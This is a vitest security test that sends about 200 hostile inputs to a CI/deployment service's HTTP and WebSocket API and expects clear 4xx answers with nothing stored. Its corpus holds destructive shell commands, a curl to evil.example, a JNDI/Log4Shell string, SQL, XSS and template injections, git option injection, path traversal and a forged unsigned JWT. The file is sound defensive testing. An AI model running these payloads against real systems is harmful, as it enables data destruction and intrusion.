/**
 * Issue 6, "Done when": a corpus of hostile inputs (injection strings in every
 * field, wrong types, huge bodies, unicode tricks, traversal in artifact
 * names, bad WS ids and frames) gets only 4xx answers with clear messages,
 * never a 5xx, and nothing is stored. Real service, real HTTP and WS.
 */
import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { BODY_LIMIT_BYTES } from '../../src/security/http.js';
import { TRAVERSAL_CORPUS } from './corpus.js';
import { call, type RealApp, startRealApp, waitForRun } from './real_app.js';

/** Strings aimed at shells (cmd, PowerShell, sh), git, SQL, templates, HTML, headers and look-alike unicode. */
const INJECTIONS: string[] = [
  '; rm -rf /',
  'main; rm -rf /',
  '$(whoami)',
  '`id`',
  'main | calc.exe',
  'main & del /q C:\\*',
  'main && shutdown /s',
  'main || curl http://evil.example',
  'main; Remove-Item -Recurse -Force C:\\inetpub',
  '$env:JENKINS_API_TOKEN',
  '%JENKINS_API_TOKEN%',
  '${jndi:ldap://evil.example/a}',
  "' OR '1'='1",
  '"; DROP TABLE runs; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '#{7*7}',
  '../../etc/passwd',
  '..\\..\\Windows\\win.ini',
  'main\nrm -rf /',
  'main\r\nX-Injected: 1',
  'main\u0000',
  '%00',
  'main..evil',
  '-rf',
  '--upload-pack=touch /tmp/pwned',
  'main@{u}',
  'a b',
  'feature/../../x',
  '\u202emain',
  'ｍａｉｎ',
  'mаin', // Cyrillic а
  'main\u200b',
  'x'.repeat(201),
  '',
  ' ',
  'main\t',
  'main.lock',
  '/main',
  'main/',
  '.hidden',
  'main//x',
  "'",
  '"',
  '^',
  '~1',
  'main:evil',
  'main?',
  'main*',
  'main[0]',
  '\\',
  '@',
  '🙂',
];

interface Case {
  name: string;
  method: string;
  path: string;
  body?: unknown;
  rawBody?: string;
  headers?: Record<string, string>;
  /** Default: the admin token, so the request gets past authentication to validation. */
  token?: string | null;
  /** Sent with node:http exactly as written: fetch would normalise dot segments (even %2E) away. */
  raw?: boolean;
}

function rawGet(base: string, p: string, token: string) {
  return new Promise<{ status: number; text: string; body: any }>((resolve, reject) => {
    const req = request(`${base}/`, { path: p, headers: { authorization: `Bearer ${token}` } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (text += c));
      res.on('end', () => {
        let body: any = text;
        try {
          body = JSON.parse(text);
        } catch {
          /* not JSON */
        }
        resolve({ status: res.statusCode ?? 0, text, body });
      });
    });
    req.on('error', reject);
    req.end();
  });
}

let svc: RealApp;
let runId: string;

const validRun = { app: 'WeSign', env: 'DevTest', branch_or_tag: 'main', dry_run: true, test_suite: 'none', provider: 'jenkins' };

function buildCorpus(): Case[] {
  const cases: Case[] = [];
  const run = (name: string, body: unknown) => cases.push({ name: `POST /ci/runs ${name}`, method: 'POST', path: '/ci/runs', body });

  for (const s of INJECTIONS) run(`branch_or_tag=${JSON.stringify(s)}`, { ...validRun, branch_or_tag: s });
  for (const s of INJECTIONS) run(`app=${JSON.stringify(s)}`, { ...validRun, app: s });
  for (const s of INJECTIONS) run(`env=${JSON.stringify(s)}`, { ...validRun, env: s });
  for (const s of INJECTIONS.slice(0, 15)) run(`test_suite=${JSON.stringify(s)}`, { ...validRun, test_suite: s });
  for (const s of INJECTIONS.slice(0, 10)) run(`provider=${JSON.stringify(s)}`, { ...validRun, provider: s });

  // Wrong types.
  for (const v of ['true', 1, 0, null, [], {}, 'yes']) run(`dry_run=${JSON.stringify(v)}`, { ...validRun, dry_run: v });
  for (const v of [123, null, [], {}, true, ['main']]) run(`branch_or_tag=${JSON.stringify(v)}`, { ...validRun, branch_or_tag: v });
  for (const v of [1, null, ['full'], 'FULL', 'all']) run(`test_suite=${JSON.stringify(v)}`, { ...validRun, test_suite: v });
  for (const v of [1, [], null]) run(`app=${JSON.stringify(v)}`, { ...validRun, app: v });
  run('provider=gitlab', { ...validRun, provider: 'gitlab' });
  run('an unknown field', { ...validRun, evil: 1 });
  run('initiator forged in the body', { ...validRun, initiator: 'someone-else' });
  run('status forged in the body', { ...validRun, status: 'success' });
  cases.push({ name: 'POST /ci/runs __proto__ pollution', method: 'POST', path: '/ci/runs', rawBody: `{"branch_or_tag":"main","dry_run":true,"__proto__":{"role":"admin"}}` });
  cases.push({ name: 'POST /ci/runs constructor pollution', method: 'POST', path: '/ci/runs', rawBody: `{"dry_run":true,"constructor":{"prototype":{"role":"admin"}}}` });

  // Bodies that are not a run request at all.
  for (const raw of ['[]', '"main"', '123', 'null', 'true', '{', '{"a":}', '{"dry_run":true,}', "{'dry_run':true}", '\u0000']) {
    cases.push({ name: `POST /ci/runs body ${JSON.stringify(raw)}`, method: 'POST', path: '/ci/runs', rawBody: raw });
  }
  cases.push({ name: 'POST /ci/runs empty JSON body', method: 'POST', path: '/ci/runs', rawBody: '', headers: { 'content-type': 'application/json' } });
  cases.push({ name: 'POST /ci/runs huge body', method: 'POST', path: '/ci/runs', body: { ...validRun, pad: 'x'.repeat(BODY_LIMIT_BYTES + 10) } });
  cases.push({ name: 'POST /ci/runs 1 MB branch', method: 'POST', path: '/ci/runs', body: { ...validRun, branch_or_tag: 'a'.repeat(1 << 20) } });
  cases.push({ name: 'POST /ci/runs deeply nested JSON', method: 'POST', path: '/ci/runs', rawBody: `${'['.repeat(20_000)}${']'.repeat(20_000)}` });
  cases.push({ name: 'POST /ci/runs many keys', method: 'POST', path: '/ci/runs', rawBody: JSON.stringify(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`k${i}`, i]))) });
  for (const ct of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/json; charset=utf-16']) {
    cases.push({ name: `POST /ci/runs as ${ct}`, method: 'POST', path: '/ci/runs', rawBody: 'dry_run=true', headers: { 'content-type': ct } });
  }

  // Run ids.
  const badIds = ['not-a-uuid', '..', '..%2F..%2Fetc', "'%20OR%201=1", '%00', 'x'.repeat(300), encodeURIComponent('ｒｕｎ'), '1', '-1', 'null', '00000000-0000-0000-0000-00000000000g', encodeURIComponent('<script>')];
  for (const id of badIds) {
    cases.push({ name: `GET /ci/runs/${id.slice(0, 40)}`, method: 'GET', path: `/ci/runs/${id}` });
    cases.push({ name: `POST /ci/runs/${id.slice(0, 40)}/cancel`, method: 'POST', path: `/ci/runs/${id}/cancel` });
  }
  cases.push({ name: 'GET an unknown run', method: 'GET', path: '/ci/runs/00000000-0000-4000-8000-000000000000' });
  for (const p of ['/ci/runs/%zz', '/ci/runs/%E0%A4%A', '/ci/environments/%/rollback']) cases.push({ name: `malformed escape ${p}`, method: p.endsWith('rollback') ? 'POST' : 'GET', path: p, ...(p.endsWith('rollback') ? { body: { confirm: 'DevTest' } } : {}) });

  // History filters.
  for (const q of ['status=evil', 'status=queued,evil', 'limit=-1', 'limit=0', 'limit=abc', 'limit=1e9', 'cursor=garbage', 'cursor=' + 'A'.repeat(600), 'from=yesterday', 'to=2026-13-45', 'kind=evil', 'evil=1', `env=${'e'.repeat(300)}`, 'initiator=' + 'i'.repeat(300)]) {
    cases.push({ name: `GET /ci/runs?${q.slice(0, 40)}`, method: 'GET', path: `/ci/runs?${q}` });
  }

  // Rollback.
  const rb = (name: string, env: string, body: unknown) => cases.push({ name: `rollback ${name}`, method: 'POST', path: `/ci/environments/${env}/rollback`, body });
  rb('wrong confirm', 'DevTest', { confirm: 'Production', reason: 'x' });
  rb('confirm of another case', 'DevTest', { confirm: 'devtest ', reason: 'x' });
  rb('missing confirm', 'DevTest', { reason: 'x' });
  rb('confirm as number', 'DevTest', { confirm: 1 });
  rb('huge reason', 'DevTest', { confirm: 'DevTest', reason: 'r'.repeat(501) });
  rb('unknown field', 'DevTest', { confirm: 'DevTest', force: true });
  for (const s of INJECTIONS.slice(0, 12)) rb(`reason ${JSON.stringify(s)} with a wrong confirm`, 'DevTest', { confirm: 'Prod', reason: s });
  for (const s of ['DevTest;rm', 'Dev%20Test', '..', encodeURIComponent('../../x'), 'x'.repeat(100), encodeURIComponent('$(whoami)'), 'NoSuchEnv']) rb(`env=${s.slice(0, 30)}`, s, { confirm: decodeURIComponent(s) });
  rb('app injection', 'DevTest', { confirm: 'DevTest', app: "WeSign'; DROP TABLE runs;--" });

  // Environments.
  for (const s of ['DevTest;rm', encodeURIComponent('<x>'), 'x'.repeat(100)]) cases.push({ name: `deployments of ${s.slice(0, 20)}`, method: 'GET', path: `/ci/environments/${s}/deployments` });
  cases.push({ name: 'metrics days=0', method: 'GET', path: '/ci/environments/DevTest/metrics?days=0' });
  cases.push({ name: 'metrics days=abc', method: 'GET', path: '/ci/environments/DevTest/metrics?days=abc' });

  // Sandbox faults.
  for (const b of [{ smoke_fail: 'yes' }, { jenkins_flaky: 2 }, { jenkins_down_s: -1 }, { evil: true }, [], 'x', null]) {
    cases.push({ name: `PUT /ci/sandbox/faults ${JSON.stringify(b)}`, method: 'PUT', path: '/ci/sandbox/faults', body: b });
  }

  // Sign-in.
  for (const b of [{ token: 123 }, { token: '' }, { token: 'x'.repeat(9000) }, { token: '$(whoami)' }, { token: "' OR 1=1 --" }, {}, [], { token: 'qaci_x', extra: 1 }, { token: `qaci_${'A'.repeat(43)}` }, { token: 'eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ.' }]) {
    cases.push({ name: `login ${JSON.stringify(b).slice(0, 40)}`, method: 'POST', path: '/ci/auth/login', body: b, token: null });
  }

  // Audit filters.
  for (const q of ['action=run.delete', 'since=yesterday', 'limit=0', 'limit=1000', 'cursor=garbage', 'evil=1', `actor=${'a'.repeat(300)}`]) {
    cases.push({ name: `GET /ci/audit?${q.slice(0, 30)}`, method: 'GET', path: `/ci/audit?${q}` });
  }

  // Credentials.
  for (const h of ['Bearer', 'Bearer ', 'bearer x', 'Bearer  two-spaces', `Bearer qaci_${'A'.repeat(43)}`, `Bearer ${'x'.repeat(9000)}`, 'Basic YWRtaW46YWRtaW4=', 'Token abc', 'Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ.']) {
    cases.push({ name: `Authorization: ${h.slice(0, 30)}`, method: 'POST', path: '/ci/runs', body: validRun, headers: { authorization: h }, token: null });
  }
  cases.push({ name: 'forged session cookie', method: 'POST', path: '/ci/runs', body: validRun, headers: { cookie: `qa_session=${'A'.repeat(43)}; qa_csrf=x`, 'x-csrf-token': 'x' }, token: null });
  cases.push({ name: 'token in the query string', method: 'GET', path: '/ci/runs?access_token=qaci_x' });

  // Artifact names: the whole traversal corpus, sent as the route's wildcard.
  for (const name of TRAVERSAL_CORPUS) {
    if (name === '') continue;
    const encoded = name.split('/').map((seg) => (/^\.+$/.test(seg) ? seg : encodeURIComponent(seg))).join('/');
    cases.push({ name: `artifact ${JSON.stringify(name).slice(0, 40)}`, method: 'GET', path: `/ci/runs/{run}/artifacts/${encoded}`, raw: true });
  }
  return cases;
}

const CORPUS = buildCorpus();

let runsBefore = 0;
let deploymentsBefore = 0;
const countRows = async (table: string) => Number(((await svc.db.selectFrom(table as never).select((eb: any) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()) as any).n);

beforeAll(async () => {
  svc = await startRealApp();
  const r = await call(svc.url, 'POST', '/ci/runs', { token: svc.tokens.deployer, body: { dry_run: false, test_suite: 'none' } });
  expect(r.status, r.text).toBe(202);
  runId = r.body.run_id;
  expect((await waitForRun(svc.url, svc.tokens.viewer, runId)).status).toBe('success');
  runsBefore = await countRows('runs');
  deploymentsBefore = await countRows('deployments');
});
afterAll(async () => svc?.close());

describe(`hostile inputs (${CORPUS.length} HTTP cases)`, () => {
  it('has at least 200 cases', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(200);
  });

  for (const c of CORPUS) {
    it(`answers ${c.name} with a clear 4xx`, async () => {
      const token = c.token === null ? undefined : (c.token ?? svc.tokens.admin);
      const path = c.path.replace('{run}', runId);
      const res = c.raw ? await rawGet(svc.url, path, svc.tokens.admin) : await call(svc.url, c.method, path, {
        ...(token ? { token } : {}),
        ...(c.body !== undefined ? { body: c.body } : {}),
        ...(c.rawBody !== undefined ? { rawBody: c.rawBody } : {}),
        ...(c.headers ? { headers: c.headers } : {}),
      });
      const detail = `${c.method} ${c.path.slice(0, 80)} → ${res.status} ${res.text.slice(0, 300)}`;
      expect(res.status, detail).toBeGreaterThanOrEqual(400);
      expect(res.status, detail).toBeLessThan(500);
      expect(res.body?.error?.code, detail).toEqual(expect.any(String));
      expect(res.body.error.message, detail).toEqual(expect.stringMatching(/\w.{10,}/s));
      expect(res.text, detail).not.toMatch(/\n\s+at |\/work\/|node_modules|SQLITE_/);
    });
  }

  it('stored nothing: no run, no deployment', async () => {
    expect(await countRows('runs')).toBe(runsBefore);
    expect(await countRows('deployments')).toBe(deploymentsBefore);
  });
});

describe('hostile WebSocket ids, queries and frames', () => {
  type Outcome = { kind: 'http'; status: number } | { kind: 'close'; code: number; frames: string[] };
  const open = (p: string, frames: Array<string | Buffer> = []) =>
    new Promise<Outcome>((resolve, reject) => {
      const ws = new WebSocket(`${svc.wsUrl}${p}`, { headers: { authorization: `Bearer ${svc.tokens.admin}` } });
      const got: string[] = [];
      ws.on('open', () => {
        for (const f of frames) ws.send(f);
        // A stream that stays open after the hostile frames is fine; close it ourselves.
        setTimeout(() => ws.readyState === WebSocket.OPEN && ws.close(1000), 300);
      });
      ws.on('message', (d) => got.push(String(d)));
      ws.once('unexpected-response', (upgradeReq, res) => {
        resolve({ kind: 'http', status: res.statusCode ?? 0 });
        res.resume();
        // With this listener, ws leaves the refused upgrade's socket open: close it, or the server waits for it on close.
        upgradeReq.destroy();
      });
      ws.once('close', (code) => resolve({ kind: 'close', code, frames: got }));
      ws.once('error', (e) => (/Invalid WebSocket frame|payload/i.test(e.message) ? undefined : reject(e)));
    });

  const badPaths = ['/ci/runs/%zz/logs', '/ci/runs/not-a-uuid/logs', `/ci/runs/${'x'.repeat(300)}/logs`, '/ci/runs/..%2F..%2Fetc/logs', "/ci/runs/'%20OR%201=1/logs", '/ci/runs/00000000-0000-4000-8000-000000000000/logs'];
  const badQueries = ['from=-1', 'from=abc', 'format=xml', 'evil=1', 'from=1e99'];

  for (const p of badPaths) {
    it(`refuses WS ${p.slice(0, 50)} with a 4xx or a 44xx close, with a reason`, async () => {
      const o = await open(p);
      if (o.kind === 'http') {
        expect(o.status).toBeGreaterThanOrEqual(400);
        expect(o.status).toBeLessThan(500);
      } else {
        expect(o.code).toBeGreaterThanOrEqual(4400);
        expect(o.code).toBeLessThan(4500);
        expect(JSON.parse(o.frames[0] ?? '{}').message).toMatch(/\w{3}/);
      }
    });
  }
  for (const q of badQueries) {
    it(`refuses WS query ${q}`, async () => {
      const o = await open(`/ci/runs/${runId}/logs?${q}`);
      if (o.kind === 'http') expect(o.status).toBeLessThan(500);
      else expect(o.code).toBeGreaterThanOrEqual(4400);
    });
  }

  it('survives garbage, binary and oversized client frames, and still serves', async () => {
    const o = await open(`/ci/runs/${runId}/logs?format=json`, ['garbage', '{"type":"admin"}', Buffer.from([0, 1, 2, 255]), 'x'.repeat(10_000)]);
    expect(o.kind).toBe('close');
    if (o.kind === 'close') expect([1000, 1005, 1006, 1008, 1009, 4400, 4422]).toContain(o.code);
    expect((await call(svc.url, 'GET', '/healthz')).status).toBe(200);
    expect(await countRows('runs')).toBe(runsBefore);
  });
});
